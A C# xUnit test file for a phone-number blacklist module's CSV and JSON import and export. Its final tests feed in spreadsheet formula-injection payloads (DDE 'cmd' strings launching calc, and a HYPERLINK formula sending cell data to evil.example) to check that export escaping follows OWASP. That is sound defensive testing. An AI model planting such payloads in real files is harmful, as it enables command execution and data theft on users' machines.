using System.Text;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using ModuleBlackList.Models;
using ModuleBlackList.Rest;

namespace ModuleBlackList.Tests.Rest;

/// <summary>
/// The import's readers (CSV through CsvHelper, JSON, the upload limits) and the export's writer,
/// without a daemon: row numbers, per-row errors, header handling and the round trip.
/// </summary>
public sealed class NumbersCsvTests
{
    [Fact]
    public async Task Rows_are_read_by_header_name_in_any_case_and_order_with_their_line_numbers()
    {
        var (rows, warnings) = await ReadAsync(
            "\uFEFFKind,NUMBER,Description,colour,Scope,expiresat,Enabled\r\n" +
            "Allow,+1 (800) 555-0100,\"spam, with a comma\",red,+1 212 555 0000;+1 212 555 0001,2099-01-31T10:00:00Z,false\r\n" +
            "\r\n" +
            ",18005550101\r\n");

        Assert.Equal(["Column 'colour' is not one of number, description, kind, expiresAt, scope, enabled; it was ignored."], warnings);
        Assert.Equal(2, rows.Count);

        var first = rows[0];
        Assert.Equal(2, first.Row);
        Assert.Null(first.Errors);
        Assert.Equal("+1 (800) 555-0100", first.Input!.Number);
        Assert.Equal(RuleKind.Allow, first.Input.Kind);
        Assert.Equal("spam, with a comma", first.Input.Description);
        Assert.Equal(["+1 212 555 0000", "+1 212 555 0001"], first.Input.Scope!);
        Assert.Equal(new DateTime(2099, 1, 31, 10, 0, 0, DateTimeKind.Utc), first.Input.ExpiresAt);
        Assert.Equal(DateTimeKind.Utc, first.Input.ExpiresAt!.Value.Kind);
        Assert.False(first.Input.Enabled);

        // A short row lacks its trailing fields: defaults. The blank line still counts as a line.
        var second = rows[1];
        Assert.Equal(4, second.Row);
        Assert.Equal("18005550101", second.Input!.Number);
        Assert.Equal(RuleKind.Block, second.Input.Kind);
        Assert.True(second.Input.Enabled);
        Assert.Null(second.Input.ExpiresAt);
    }

    [Fact]
    public async Task Unreadable_fields_are_errors_of_their_row_by_field()
    {
        var (rows, _) = await ReadAsync("number,kind,expiresAt,enabled\n+18005550100,Sometimes,next week,perhaps\n+18005550101,1,,\n");
        var errors = rows[0].Errors!;
        Assert.Equal(["enabled", "expiresAt", "kind"], errors.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("+18005550100", rows[0].Number);
        // An enum's number is not a kind.
        Assert.True(rows[1].Errors!.ContainsKey("kind"));
    }

    [Fact]
    public async Task A_row_with_broken_quoting_is_rejected_and_the_rows_around_it_are_read()
    {
        var (rows, _) = await ReadAsync("number,description\n+18005550100,fine\n+18005550101,bro\"ken\n+18005550102,also fine\n");
        Assert.Equal(3, rows.Count);
        Assert.Null(rows[0].Errors);
        Assert.True(rows[1].Errors!.ContainsKey("row"));
        Assert.Null(rows[1].Input);
        Assert.Null(rows[2].Errors);
        Assert.Equal("+18005550102", rows[2].Input!.Number);
    }

    [Fact]
    public async Task A_file_without_a_number_column_or_without_anything_is_refused_as_a_whole()
    {
        var noNumber = await Assert.ThrowsAsync<ImportFormatException>(() => ReadAsync("phone,description\n+18005550100,x\n"));
        Assert.Contains("'number'", noNumber.Message, StringComparison.Ordinal);
        await Assert.ThrowsAsync<ImportFormatException>(() => ReadAsync(""));
    }

    [Fact]
    public async Task More_rows_than_the_limit_are_refused_and_nothing_is_stored()
    {
        const int limit = NumbersImport.BatchSize * 2 + 10; // past a batch, so that stored batches are rolled back
        await using var harness = await BlackListHost.StartAsync(configuration: new Dictionary<string, string> { ["MaxImportRows"] = limit.ToString(System.Globalization.CultureInfo.InvariantCulture) });
        var csv = "number\n" + string.Concat(Enumerable.Range(0, limit + 1).Select(i => $"+1800{i:0000000}\n"));
        var refused = await Assert.ThrowsAsync<ImportTooLargeException>(() => ImportAsync(harness, Request("text/csv", csv)));
        Assert.Contains("2,010", refused.Message, StringComparison.Ordinal);
        Assert.Empty(await harness.StoredRulesAsync());
        Assert.Equal(0, harness.BlackList.Index.Count);
    }

    [Fact]
    public async Task What_the_export_writes_the_import_reads_back_unchanged()
    {
        var rules = new[]
        {
            new BlackListNumbers { Number = "+1 (800) 555-0100", Description = "quote \" and, comma\nand a line break", Kind = RuleKind.Block, Enabled = true },
            new BlackListNumbers { Number = "+7495*", Description = "", Kind = RuleKind.Allow, Enabled = false, Scope = "12125550000,12125550001", ExpiresAt = new DateTime(2099, 6, 30, 12, 0, 0, DateTimeKind.Unspecified) },
            new BlackListNumbers { Number = "+1 800 555 0102", Description = "-starts like a formula" },
        };
        using var stream = new MemoryStream();
        await NumbersCsv.WriteAsync(stream, rules.ToAsyncEnumerable(), CancellationToken.None);
        Assert.StartsWith("number,description,kind,expiresAt,scope,enabled\r\n", Encoding.UTF8.GetString(stream.ToArray()), StringComparison.Ordinal);

        stream.Position = 0;
        var warnings = new List<string>();
        var rows = await NumbersCsv.ReadAsync(stream, warnings, CancellationToken.None).ToListAsync();
        Assert.Empty(warnings);
        Assert.Equal(3, rows.Count);
        Assert.All(rows, r => Assert.Null(r.Errors));
        for (var i = 0; i < rules.Length; i++)
        {
            var input = rows[i].Input!;
            // Numbers come back as written, also those export escaped (the import drops the marker there).
            Assert.Equal(rules[i].Number, input.Number);
            // A description that starts like a formula was escaped for spreadsheets, and import stores
            // text as given: it comes back with the single quote in front (once: it no longer starts
            // like a formula, so a second export leaves it alone).
            Assert.Equal(i == 2 ? "'" + rules[i].Description : rules[i].Description, input.Description ?? "");
            Assert.Equal(rules[i].Kind, input.Kind);
            Assert.Equal(rules[i].Enabled, input.Enabled);
            Assert.Equal(rules[i].Scope.Split(',', StringSplitOptions.RemoveEmptyEntries), input.Scope ?? []);
            Assert.Equal(rules[i].ExpiresAt is { } e ? DateTime.SpecifyKind(e, DateTimeKind.Utc) : null, input.ExpiresAt);
        }
    }

    [Fact]
    public async Task An_upload_over_10_MB_is_refused_whether_or_not_it_says_its_length()
    {
        await using var harness = await BlackListHost.StartAsync();
        var declared = Request("text/csv", new MemoryStream([1]), contentLength: NumbersImport.MaxBytes + 1L);
        await Assert.ThrowsAsync<ImportTooLargeException>(() => ImportAsync(harness, declared));

        // Undeclared: counted as it is read. Valid rows up to the limit are not stored either.
        var rows = new StringBuilder("number,description\n");
        while (rows.Length <= NumbersImport.MaxBytes) rows.Append("+1 800 555 0100,").Append('x', 400).Append('\n');
        var undeclared = Request("text/csv", new MemoryStream(Encoding.UTF8.GetBytes(rows.ToString())), contentLength: null);
        await Assert.ThrowsAsync<ImportTooLargeException>(() => ImportAsync(harness, undeclared));
        Assert.Empty(await harness.StoredRulesAsync());
    }

    [Fact]
    public async Task The_format_comes_from_the_content_type_or_the_format_parameter_and_an_unknown_type_is_unsupported()
    {
        await using var harness = await BlackListHost.StartAsync();
        var unknown = await Assert.ThrowsAsync<ImportFormatException>(() => ImportAsync(harness, Request("image/png", "number\n+18005550100\n")));
        Assert.True(unknown.UnsupportedMediaType);

        var (report, _, _) = await ImportAsync(harness, Request("application/octet-stream", "number\n+18005550100\n"), "csv");
        Assert.Equal(1, report.Imported);

        var bad = await Assert.ThrowsAsync<ImportFormatException>(() => ImportAsync(harness, Request("text/csv", "x"), "xml"));
        Assert.False(bad.UnsupportedMediaType);
    }

    [Fact]
    public async Task JSON_rows_are_read_one_by_one_so_a_bad_row_spoils_only_itself()
    {
        await using var harness = await BlackListHost.StartAsync();
        const string json = """
            [
              { "number": "+18005550100", "kind": "allow", "scope": ["+12125550000"], "expiresAt": "2099-01-01T00:00:00Z" },
              { "number": "+18005550101", "kind": "Never" },
              42,
              { "number": "+18005550102", "enabled": "yes" },
            ]
            """;
        var (report, _, _) = await ImportAsync(harness, Request("application/json; charset=utf-8", json));
        Assert.Equal(4, report.Rows);
        Assert.Equal(1, report.Imported);
        Assert.Equal([2, 3, 4], report.Errors.Select(e => e.Row));
        Assert.True(report.Errors[0].Errors.ContainsKey("kind"));
        Assert.Equal("+18005550101", report.Errors[0].Number);
        Assert.True(report.Errors[1].Errors.ContainsKey("row"));
        Assert.True(report.Errors[2].Errors.ContainsKey("enabled"));
        var stored = Assert.Single(await harness.StoredRulesAsync());
        Assert.Equal(Models.RuleKind.Allow, stored.Kind);
        Assert.Equal("12125550000", stored.Scope);

        await Assert.ThrowsAsync<ImportFormatException>(() => ImportAsync(harness, Request("application/json", """{ "number": "+18005550100" }""")));
        await Assert.ThrowsAsync<ImportFormatException>(() => ImportAsync(harness, Request("application/json", "[{")));
    }

    [Fact]
    public async Task A_row_that_is_not_valid_UTF8_is_refused_naming_its_line_and_the_other_rows_are_stored()
    {
        await using var harness = await BlackListHost.StartAsync();
        var csv = new MemoryStream();
        csv.Write("number,description\n+18005550100,caf\u00e9 ok\n+18005550101,bad "u8);
        csv.Write([0xC3, 0x28, 0xFF]);
        csv.Write("\n+18005550102,fine\n"u8);
        var (report, _, _) = await ImportAsync(harness, Request("text/csv", new MemoryStream(csv.ToArray()), csv.Length));

        Assert.Equal(3, report.Rows);
        Assert.Equal(2, report.Imported);
        var rejected = Assert.Single(report.Errors);
        Assert.Equal(3, rejected.Row);
        Assert.Contains("UTF-8", rejected.Errors["row"][0], StringComparison.Ordinal);
        var stored = await harness.StoredRulesAsync();
        Assert.Equal(["café ok", "fine"], stored.Select(r => r.Description));
        Assert.DoesNotContain(stored, r => r.Description.Contains('\uFFFD', StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_large_import_is_written_in_batches_and_reports_a_bounded_number_of_rows_with_complete_counts()
    {
        await using var harness = await BlackListHost.StartAsync();
        var csv = new StringBuilder("number,description\n");
        const int rows = NumbersImport.BatchSize * 3 + 17;
        for (var i = 0; i < rows; i++) csv.Append(i % 2 == 0 ? $"+1 800 55{i:00000},ok {i}\n" : $"not a number {i},bad\n");
        // The same numbers again: duplicates of rows in earlier batches.
        for (var i = 0; i < rows; i += 2) csv.Append($"1800 55{i:00000},again\n");
        var (report, _, refused) = await ImportAsync(harness, Request("text/csv", csv.ToString()));

        Assert.False(refused);
        Assert.Equal(rows + (rows + 1) / 2, report.Rows);
        Assert.Equal((rows + 1) / 2, report.Imported);
        Assert.Equal(rows / 2, report.Rejected);
        Assert.Equal((rows + 1) / 2, report.Duplicates);
        Assert.Equal(NumbersImport.MaxReported, report.Errors.Count);
        Assert.Equal(NumbersImport.MaxReported, report.DuplicateRows.Count);
        Assert.True(report.Truncated);
        Assert.All(report.DuplicateRows, d => Assert.NotNull(d.SameAsRow));
        Assert.Equal((rows + 1) / 2, (await harness.StoredRulesAsync()).Count);
        Assert.Equal((rows + 1) / 2, harness.BlackList.Index.Count);
        Assert.True(harness.BlackList.Check("+1 800 5500000", null).Blocked);
    }

    [Fact]
    public async Task All_or_nothing_with_a_bad_row_in_a_late_batch_stores_nothing()
    {
        await using var harness = await BlackListHost.StartAsync();
        var csv = new StringBuilder("number\n");
        for (var i = 0; i < NumbersImport.BatchSize * 2; i++) csv.Append($"+1 800 56{i:00000}\n");
        csv.Append("call me\n");
        var (report, _, refused) = await ImportAsync(harness, Request("text/csv", csv.ToString()), allOrNothing: true);
        Assert.True(refused);
        Assert.Equal(0, report.Imported);
        Assert.Empty(await harness.StoredRulesAsync());
        Assert.Equal(0, harness.BlackList.Index.Count);
    }

    public static TheoryData<string> Formulas => new()
    {
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=cmd|' /C calc'!A0",
        "\r=cmd|' /C calc'!A0",
    };

    [Fact]
    public void The_export_uses_CsvHelper_injection_escaping_with_OWASP_characters()
    {
        Assert.Equal(CsvHelper.CsvInjection.Escape, NumbersCsv.WriterOptions.Injection);
        foreach (var c in "=+-@\t\r") Assert.Contains(c, NumbersCsv.WriterOptions.InjectionCharacters);
        Assert.Equal('\'', NumbersCsv.WriterOptions.InjectionEscape);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task A_formula_is_stored_as_given_and_exported_as_quoted_text_that_a_spreadsheet_does_not_run(string formula)
    {
        await using var harness = await BlackListHost.StartAsync();
        var file = new StringWriter();
        file.Write("number,description\r\n19200000000,\"");
        file.Write(formula.Replace("\"", "\"\"", StringComparison.Ordinal));
        file.Write("\"\r\n");
        var (report, _, _) = await ImportAsync(harness, Request("text/csv", file.ToString()));
        Assert.Equal(1, report.Imported);
        // Import: the text as given (trimming aside, which applies to any description).
        var stored = Assert.Single(await harness.StoredRulesAsync());
        Assert.Equal(formula.Trim(), stored.Description);

        // Export: the cell starts with the single quote and is quoted, as OWASP says.
        using var exported = new MemoryStream();
        await NumbersCsv.WriteAsync(exported, new[] { stored }.ToAsyncEnumerable(), CancellationToken.None);
        var text = Encoding.UTF8.GetString(exported.ToArray());
        Assert.Contains(",\"'" + stored.Description.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", text, StringComparison.Ordinal);

        // What a spreadsheet sees: no cell of the file starts with a character that makes it a formula.
        exported.Position = 0;
        await using var cells = CsvHelper.CsvReader.Create(exported, CsvHelper.CsvReaderOptions.Default with { HasHeader = false });
        while (await cells.ReadAsync())
        {
            for (var i = 0; i < cells.FieldCount; i++)
                Assert.False(cells.GetString(i) is [ '=' or '+' or '-' or '@' or '\t' or '\r', ..], $"cell {i}: {cells.GetString(i)}");
        }
    }

    /// <summary>An import as the module's container makes it for a request (its real settings, MaxImportRows among them).</summary>
    private static async Task<(ImportReport Report, List<string> Warnings, bool Refused)> ImportAsync(BlackListHost harness, HttpRequest request, string? format = null, bool allOrNothing = false)
    {
        await using var scope = harness.Scopes.CreateAsyncScope();
        var import = scope.ServiceProvider.GetRequiredService<NumbersImport>();
        return await import.RunAsync(request, format, allOrNothing, CancellationToken.None);
    }

    private static async Task<(List<ImportRow> Rows, List<string> Warnings)> ReadAsync(string csv)
    {
        using var stream = new MemoryStream(Encoding.UTF8.GetBytes(csv));
        var warnings = new List<string>();
        var rows = await NumbersCsv.ReadAsync(stream, warnings, CancellationToken.None).ToListAsync();
        return (rows, warnings);
    }

    private static HttpRequest Request(string contentType, string body)
    {
        var bytes = Encoding.UTF8.GetBytes(body);
        return Request(contentType, new MemoryStream(bytes), bytes.Length);
    }

    private static HttpRequest Request(string contentType, Stream body, long? contentLength)
    {
        var context = new DefaultHttpContext();
        context.Request.Method = "POST";
        context.Request.ContentType = contentType;
        context.Request.ContentLength = contentLength;
        context.Request.Body = body;
        return context.Request;
    }
}
